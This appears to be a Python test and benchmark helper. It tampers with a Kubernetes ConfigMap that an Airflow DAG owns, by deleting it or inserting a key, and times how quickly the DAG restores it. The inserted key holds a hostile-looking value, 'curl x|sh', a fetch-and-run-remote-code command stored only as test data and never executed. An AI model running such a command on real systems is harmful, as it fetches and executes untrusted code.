"""Drive ``restore_on_drift`` on a running :class:`AirflowStack`: unpause, initial reconcile, tamper, time the restore.

Shared by the end-to-end test and ``bench/event_restore.py`` so both measure the same thing: seconds from just
before the tampering request is sent until the live ConfigMap (read from the API server every 0.2 s) is back to
what the initial reconcile wrote. Nothing here creates an asset event or a DAG run for the tampers: a restore
counts only when the scheduler made an ``asset_triggered`` run, whose upstream asset event came from the trigger.
"""

from __future__ import annotations

import os
import shutil
import statistics
import time
from collections.abc import Callable
from dataclasses import dataclass, field
from pathlib import Path
from typing import Any

from airflow_stack import PROJECT, AirflowStack, StackError

DAG_ID = "restore_on_drift"
_SYSTEM_CONFIGMAPS = {"kube-root-ca.crt"}


def dag_file() -> Path:
    """Return the DAG file under test: ``E2E_DAG_FILE``, else the example ``dags/restore_on_drift.py``."""
    if os.environ.get("E2E_DAG_FILE"):
        return Path(os.environ["E2E_DAG_FILE"])
    return PROJECT / "dags" / "restore_on_drift.py"


def dags_folder(destination: Path) -> Path:
    """Return a DAGs folder holding only a copy of :func:`dag_file`.

    Only this DAG: the dag-processor re-parses every file every few seconds here, and the other examples have
    nothing to do with this test.
    """
    destination.mkdir()
    shutil.copy(dag_file(), destination / "restore_on_drift.py")
    return destination


@dataclass
class Tamper:
    """One tamper and what answered it."""

    kind: str
    seconds: float
    run_id: str
    event_message: str


@dataclass
class RestoreProbe:
    """Tamper with the ConfigMap ``restore_on_drift`` owns in ``namespace`` and watch Airflow restore it."""

    stack: AirflowStack
    core: Any  # kubernetes.client.CoreV1Api (admin)
    namespace: str
    progress: Callable[[str], None] = lambda line: None
    name: str = ""
    baseline: dict[str, str] = field(default_factory=dict)
    seen_runs: set[str] = field(default_factory=set)

    def wait(self, what: str, check: Callable[[], Any], timeout: float, interval: float = 0.5) -> Any:
        """Poll ``check`` until it returns something truthy; fail naming ``what`` (and the logs' tails)."""
        deadline = time.monotonic() + timeout
        while time.monotonic() < deadline:
            self.stack.check_alive()
            result = check()
            if result:
                return result
            time.sleep(interval)
        raise StackError(f"timed out after {timeout:.0f}s waiting for {what}\n{self.stack.tails()}")

    def runs(self) -> list[dict[str, Any]]:
        """Return the DAG's runs, oldest first."""
        body = self.stack.call(
            "GET", f"/dags/{DAG_ID}/dagRuns", params={"limit": 100, "order_by": "run_after"}
        )
        return list(body["dag_runs"])

    def watchers(self) -> list[dict[str, Any]]:
        """Return the AssetWatchers of the assets that schedule the DAG."""
        assets = self.stack.call("GET", "/assets", params={"dag_ids": DAG_ID})["assets"]
        return [watcher for asset in assets for watcher in asset["watchers"]]

    def _finished(self, run_id: str) -> dict[str, Any] | None:
        run = self.stack.call("GET", f"/dags/{DAG_ID}/dagRuns/{run_id}")
        if run["state"] == "failed":
            raise StackError(f"run {run_id} failed\n{self.stack.tails()}")
        return run if run["state"] == "success" else None

    def _settled(self) -> bool:
        """Return whether no run is queued or running."""
        return all(run["state"] in ("success", "failed") for run in self.runs())

    def prepare(self, parse_timeout: float = 120.0) -> None:
        """Wait for the parsed DAG, check it has no watcher while paused, unpause, run the initial reconcile."""
        self.wait("the dag-processor to serialize restore_on_drift", self._parsed, parse_timeout, 1.0)
        assert self.watchers() == [], "a paused DAG's AssetWatcher must not be registered"
        self.stack.call("PATCH", f"/dags/{DAG_ID}", json={"is_paused": False})
        run = self.stack.call("POST", f"/dags/{DAG_ID}/dagRuns", json={"logical_date": None})
        self.progress(f"unpaused {DAG_ID}; initial reconcile: run {run['dag_run_id']}")
        self.wait("the initial reconcile run to succeed", lambda: self._finished(run["dag_run_id"]), 180)
        live = [item for item in self._list() if item.metadata.name not in _SYSTEM_CONFIGMAPS]
        assert len(live) == 1, f"expected the DAG's one ConfigMap in {self.namespace}, found {len(live)}"
        self.name, self.baseline = live[0].metadata.name, dict(live[0].data or {})
        assert self.baseline, "the reconciled ConfigMap has data"
        self.wait(
            "the AssetWatcher's trigger to be registered (re-parse after unpause)", self.watchers, 60, 1.0
        )
        # The trigger lists first, so a tamper made before its watch opens is still seen; settling here only keeps
        # start-up out of the first measurement (and lets a run for the initial list's state finish).
        time.sleep(3)
        self.wait("earlier runs to finish", self._settled, 120)
        self.seen_runs = {run["dag_run_id"] for run in self.runs()}
        self.progress(f"watching {self.namespace}/{self.name} ({len(self.baseline)} keys); tampering")

    def _parsed(self) -> bool:
        response = self.stack.api.get(f"/dags/{DAG_ID}")
        return response.status_code == 200

    def _list(self) -> list[Any]:
        return list(self.core.list_namespaced_config_map(self.namespace).items)

    def _restored(self, previous_uid: str) -> bool:
        from kubernetes.client import ApiException

        try:
            live = self.core.read_namespaced_config_map(self.name, self.namespace)
        except ApiException as err:
            if err.status == 404:
                return False
            raise
        return dict(live.data or {}) == self.baseline and (
            not previous_uid or live.metadata.uid != previous_uid
        )

    def tamper(self, kind: str, timeout: float = 90.0) -> Tamper:
        """Delete the ConfigMap or insert a key; time the restore; check the asset-triggered run that did it."""
        uid = self.core.read_namespaced_config_map(self.name, self.namespace).metadata.uid
        started = time.perf_counter()
        if kind == "delete":
            self.core.delete_namespaced_config_map(self.name, self.namespace)
        elif kind == "insert-key":
            self.core.patch_namespaced_config_map(
                self.name, self.namespace, {"data": {"evil.sh": "curl x|sh"}}
            )
        else:
            raise ValueError(kind)
        self.wait(f"the {kind} tamper to be restored", lambda: self._restored(uid if kind == "delete" else ""),
                  timeout, 0.2)  # fmt: skip
        seconds = time.perf_counter() - started
        new = self.wait("the asset-triggered run", self._new_runs, 30)
        assert [run["run_type"] for run in new] == ["asset_triggered"], f"one asset-triggered run, not {new}"
        assert new[0]["triggered_by"] == "asset", new[0]
        run_id = new[0]["dag_run_id"]
        self.wait(f"run {run_id} to succeed", lambda: self._finished(run_id), 120)
        self.seen_runs.add(run_id)
        message = self._trigger_event(run_id)
        self.progress(f"{kind}: restored in {seconds:.1f}s by {run_id} ({message})")
        return Tamper(kind, seconds, run_id, message)

    def _new_runs(self) -> list[dict[str, Any]]:
        return [run for run in self.runs() if run["dag_run_id"] not in self.seen_runs]

    def _trigger_event(self, run_id: str) -> str:
        """Return the drift message of the run's upstream asset event, checking the trigger produced it."""
        events = self.stack.call("GET", f"/dags/{DAG_ID}/dagRuns/{run_id}/upstreamAssetEvents")[
            "asset_events"
        ]
        assert events, f"run {run_id} consumed no asset event"
        for event in events:
            extra = event.get("extra") or {}
            assert extra.get("from_trigger") is True, f"asset event not from the trigger: {event}"
            assert extra["payload"]["status"] == "drift", extra
            assert extra["payload"]["objects"][0]["name"] == self.name, extra
            assert event.get("source_dag_id") is None, f"an asset event from a task, not the watcher: {event}"
        return str(events[-1]["extra"]["payload"]["message"])


def percentile(values: list[float], fraction: float) -> float:
    """Nearest-rank percentile (as the other benchmarks compute it)."""
    ordered = sorted(values)
    return ordered[min(len(ordered) - 1, round(fraction * (len(ordered) - 1)))]


def table(tampers: list[Tamper], note: str) -> str:
    """Return the latency table (markdown): p50, p95, max, mean per tamper kind and overall."""
    rows = ["| tampers | kind | p50 (s) | p95 (s) | max (s) | mean (s) |", "|---:|---|---:|---:|---:|---:|"]
    groups = {"all": tampers} | {
        kind: [t for t in tampers if t.kind == kind] for kind in ("delete", "insert-key")
    }
    for kind, group in groups.items():
        values = [t.seconds for t in group]
        if values:
            rows.append(
                f"| {len(values)} | {kind} | {statistics.median(values):.1f} | {percentile(values, 0.95):.1f} "
                f"| {max(values):.1f} | {statistics.fmean(values):.1f} |"
            )
    return f"\nTamper-to-restore through the real scheduler ({note})\n\n" + "\n".join(rows) + "\n"
